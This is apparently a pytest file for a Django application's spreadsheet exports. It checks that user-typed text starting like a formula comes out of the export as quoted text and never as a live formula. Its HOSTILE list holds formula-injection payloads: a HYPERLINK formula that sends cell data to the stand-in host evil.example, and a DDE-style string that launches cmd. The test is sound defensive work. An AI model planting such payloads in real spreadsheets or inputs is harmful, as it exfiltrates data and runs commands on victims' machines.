"""Every .xlsx export opens without running anything a user typed.

A proposal title, a name, an event title, a position or an anonymous comment that starts like a
formula (=, +, -, @, a tab, a carriage return) must reach the spreadsheet as text: shown as typed,
never evaluated. Each export is downloaded as its user would, reopened with openpyxl, and every
cell checked.
"""

import datetime
import io

import pytest
import time_machine
from django.urls import reverse
from openpyxl import load_workbook

from evaluations.models import PresenterEvaluation
from evaluations.services.rating_box import close_form
from evaluations.services.ratings import open_presenter_evaluation, rate_presenters
from events.models import Attendance, CommitteeMember
from organization.models import RoleAssignment
from tests.evaluations.conftest import make_event
from tests.factories import EmployeeFactory, give_role, make_cycle, office
from voting.models import ThemeProposal

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Klik di sini")',
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]
KEYS = ("mastery", "delivery", "relevance", "time_management", "interaction")


@pytest.fixture
def hostile_year():
    """A year whose every free-text field starts like a formula, in every export."""
    with time_machine.travel(datetime.datetime(2025, 5, 20, 10, 0), tick=False):
        cycle = make_cycle(year=2025, start=datetime.date(2025, 1, 6))
        for n, text in enumerate(HOSTILE):
            ThemeProposal.objects.create(
                cycle=cycle,
                office=office("1701"),
                title=f"{text} {n}" if n < 4 else text,
                abstract=text,
                relevance=text,
                preferred_quarter=2,
            )
        event = make_event(cycle, title=HOSTILE[0], event_date=datetime.date(2025, 4, 15))
        speaker = CommitteeMember.objects.create(
            event=event, role=CommitteeMember.Role.SPEAKER, external_name=HOSTILE[1]
        )
        people = [
            EmployeeFactory(full_name=text, position=text, office=office("1701"))
            for text in HOSTILE
        ]
        Attendance.objects.bulk_create(
            Attendance(event=event, employee=p, source=Attendance.Source.SELF) for p in people
        )
        open_presenter_evaluation(event)
        for person, text in zip(people, HOSTILE, strict=True):
            rate_presenters(
                event=event,
                rater=person,
                ratings={speaker: {**dict.fromkeys(KEYS, 4), "comment": text, "suggestion": text}},
            )
        close_form(PresenterEvaluation.objects.get(event=event))  # every rating counted
        can = EmployeeFactory(full_name="Rina Marlina, S.Si., M.Stat.")
        give_role(can, RoleAssignment.Role.CAN_MEMBER, year=2025)
        yield cycle, event, can


def _download(client, url):
    response = client.get(url)
    assert response.status_code == 200, url
    return load_workbook(io.BytesIO(response.content))


def test_no_export_holds_a_formula_made_of_user_text(client, hostile_year):
    cycle, event, can = hostile_year
    client.force_login(can)
    with time_machine.travel(datetime.datetime(2025, 5, 20, 10, 0), tick=False):
        books = {
            "usulan tema": _download(client, reverse("voting:proposals_xlsx")),
            "daftar hadir": _download(client, reverse("events:attendance_xlsx", args=[event.pk])),
            "rekap evaluasi": _download(
                client, reverse("evaluations:year_recap_xlsx", args=[cycle.year])
            ),
        }

    for name, book in books.items():
        cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
        formulas = [c.coordinate for c in cells if c.data_type == "f"]
        assert formulas == [], f"{name}: formula cells {formulas}"
        texts = {c.value.strip() for c in cells if isinstance(c.value, str)}
        # The hostile text is still there, as typed: escaped, not altered or dropped.
        assert HOSTILE[0] in texts or any(t.startswith(HOSTILE[0]) for t in texts), name
        for cell in cells:
            if isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@")):
                assert cell.quotePrefix, f"{name} {cell.coordinate}: {cell.value!r} not quoted"


def test_attendance_times_are_dates_and_recap_remarks_are_grouped(client, hostile_year):
    cycle, event, can = hostile_year
    client.force_login(can)
    book = _download(client, reverse("events:attendance_xlsx", args=[event.pk]))
    sheet = book.active
    times = [row[5].value for row in sheet.iter_rows(min_row=2)]
    assert all(isinstance(t, datetime.datetime) for t in times) and len(times) == len(HOSTILE)
    assert sheet.cell(row=2, column=6).is_date

    recap = _download(client, reverse("evaluations:year_recap_xlsx", args=[cycle.year]))
    rows = list(recap.worksheets[1].iter_rows(values_only=True))
    assert ("Komentar", "Jumlah") in [r[:2] for r in rows]
    # Remarks sit in the wide first column, each once with its count.
    assert recap.worksheets[1].column_dimensions["A"].width >= 50
    remark_rows = [r for r in rows if r[0] == HOSTILE[2]]
    assert remark_rows and all(r[1] == 1 for r in remark_rows)
